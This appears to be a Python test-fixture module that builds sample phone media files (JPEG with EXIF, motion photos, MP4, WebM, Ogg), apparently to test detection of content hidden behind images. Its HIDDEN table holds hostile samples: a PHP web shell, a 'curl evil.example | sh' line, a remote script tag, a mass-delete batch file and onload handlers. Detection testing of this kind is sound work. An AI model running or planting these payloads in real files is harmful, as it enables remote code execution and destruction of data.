"""Files as phones make them, and files that only look so; built of real parts."""

import io
import struct
import zipfile
from random import Random

from PIL import ExifTags, Image

XMP = (
    b'<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/">'
    b'<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    b'GCamera:MotionPhoto="1" hdrgm:note="x"/></rdf:RDF></x:xmpmeta><?xpacket end="w"?>'
)


def view(size: tuple[int, int] = (320, 240), seed: int = 1) -> Image.Image:
    """A picture with something to see in it: blurred patches."""
    rng = Random(seed)
    patches = Image.frombytes("RGB", (8, 6), rng.randbytes(8 * 6 * 3))
    return patches.resize(size, Image.Resampling.BICUBIC)


def saved(image: Image.Image, kind: str = "JPEG", **more: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **more)
    return out.getvalue()


def jpeg(size: tuple[int, int] = (320, 240), seed: int = 1, **more: object) -> bytes:
    return saved(view(size, seed), **more)


def exif(
    *,
    taken: str = "2026:06:08 10:00:00",
    offset: str = "",
    place: tuple[float, float] | None = (39.91234, 119.54321),
    orientation: int = 1,
    maker_note: bytes = b"",
    accuracy: float | None = None,
) -> Image.Exif:
    """EXIF as a camera writes it."""
    made = Image.Exif()
    made[ExifTags.Base.Orientation] = orientation
    made[ExifTags.Base.Make] = "HUAWEI"
    inner = made.get_ifd(ExifTags.IFD.Exif)
    inner[ExifTags.Base.DateTimeOriginal] = taken
    if offset:
        inner[ExifTags.Base.OffsetTimeOriginal] = offset
    if maker_note:
        inner[ExifTags.Base.MakerNote] = maker_note
    gps = made.get_ifd(ExifTags.IFD.GPSInfo)
    if place is not None:
        gps[ExifTags.GPS.GPSLatitudeRef] = "N" if place[0] >= 0 else "S"
        gps[ExifTags.GPS.GPSLatitude] = (abs(place[0]), 0.0, 0.0)
        gps[ExifTags.GPS.GPSLongitudeRef] = "E" if place[1] >= 0 else "W"
        gps[ExifTags.GPS.GPSLongitude] = (abs(place[1]), 0.0, 0.0)
    if accuracy is not None:
        gps[ExifTags.GPS.GPSHPositioningError] = accuracy
    return made


def box(kind: bytes, *bodies: bytes) -> bytes:
    """One box of an MP4."""
    body = b"".join(bodies)
    return struct.pack(">I", 8 + len(body)) + kind + body


def track(handler: bytes) -> bytes:
    return box(b"trak", box(b"tkhd", bytes(84)), box(b"mdia", _handler(handler)))


def _handler(handler: bytes) -> bytes:
    return box(b"hdlr", bytes(8) + handler + bytes(12) + b"Core Media\0")


def mp4(*handlers: bytes, brand: bytes = b"isom", size: int = 20_000) -> bytes:
    """A film or a recording: one track for each handler, the data between head and tracks."""
    return b"".join(
        [
            box(b"ftyp", brand, bytes(4), b"isommp42"),
            box(b"mdat", Random(size).randbytes(size)),
            box(b"moov", box(b"mvhd", bytes(100)), *(track(handler) for handler in handlers)),
        ]
    )


def motion_photo() -> bytes:
    """A JPEG with the film of its moment behind it, as Google and Xiaomi write it."""
    return jpeg(xmp=XMP, exif=exif()) + mp4(b"vide", b"soun")


def samsung_photo() -> bytes:
    """A JPEG with Samsung's trailer: named blocks, a film among them, a directory at the end."""
    blocks = [(b"Image_UTC_Data", b"1780884000123"), (b"MotionPhoto_Data", mp4(b"vide"))]
    data, entries = b"", b""
    for number, (name, body) in enumerate(blocks):
        block = struct.pack("<HHI", 0, 0xA00 + number, len(name)) + name + body
        entries += struct.pack("<HHII", 0, 0xA00 + number, len(data) + len(block), len(block))
        data += block
    directory = b"SEFH" + struct.pack("<II", 106, len(blocks)) + entries
    return jpeg(exif=exif()) + data + directory + struct.pack("<I", len(directory)) + b"SEFT"


def two_pictures() -> bytes:
    """A JPEG with a second one behind it (MPF), as phones keep depth and gain maps."""
    return saved(view(), "MPO", save_all=True, append_images=[view((160, 120), 2)])


def heic(size: tuple[int, int] = (320, 240), **more: object) -> bytes:
    return saved(view(size), "HEIF", **more)


def archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        made.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil\n" * 9)
    return out.getvalue()


def windows_program() -> bytes:
    return b"MZ" + bytes(58) + struct.pack("<I", 128) + bytes(64) + b"PE\0\0\x4c\x01" + bytes(200)


HIDDEN = {
    "zip": archive(),
    "rar": b"Rar!\x1a\x07\x01\x00" + bytes(20),
    "7z": b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(20),
    "exe": windows_program(),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(60),
    "mach-o": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(60),
    "class": b"\xca\xfe\xba\xbe\x00\x00\x00\x41" + bytes(60),
    "pdf": b"%PDF-1.7\n1 0 obj\n",
    "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(60),
    "html": b"<html><body onload=alert(1)>",
    "doctype": b"<!DOCTYPE html><title>x</title>",
    "script": b"<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "php": b"<?php system($_GET['c']); ?>",
    "svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">',
    "shell": b"#!/bin/sh\ncurl evil.example | sh\n",
    "batch": b"@echo off\r\ndel /q *\r\n",
}


def webm(*types: int, doctype: bytes = b"webm", is_live: bool = True) -> bytes:
    """A WebM with tracks of these types (1 picture, 2 sound); live ones leave their sizes open."""
    entries = b"".join(
        _element(b"\xae", _element(b"\xd7", b"\x01") + _element(b"\x83", bytes([kind])))
        for kind in types
    )
    inner = _element(b"\x15\x49\xa9\x66", bytes(30)) + _element(b"\x16\x54\xae\x6b", entries)
    cluster = _element(b"\xe7", b"\x00") + _element(b"\xa3", Random(3).randbytes(400))
    head = _element(b"\x1a\x45\xdf\xa3", _element(b"\x42\x82", doctype))
    if is_live:
        open_end = b"\x01" + b"\xff" * 7
        return (
            head + b"\x18\x53\x80\x67" + open_end + inner + b"\x1f\x43\xb6\x75" + open_end + cluster
        )
    return head + _element(b"\x18\x53\x80\x67", inner + _element(b"\x1f\x43\xb6\x75", cluster))


def _element(ident: bytes, body: bytes) -> bytes:
    return ident + struct.pack(">Q", len(body) | 1 << 56) + body


def ogg(*heads: bytes) -> bytes:
    """An Ogg whose streams begin with these packets, then a page of data."""
    pages = [_page(head, is_first=True) for head in heads]
    return b"".join([*pages, _page(Random(4).randbytes(200), is_first=False)])


def _page(body: bytes, *, is_first: bool) -> bytes:
    head = b"OggS\0" + bytes([2 if is_first else 0]) + bytes(20) + b"\x01" + bytes([len(body)])
    return head + body
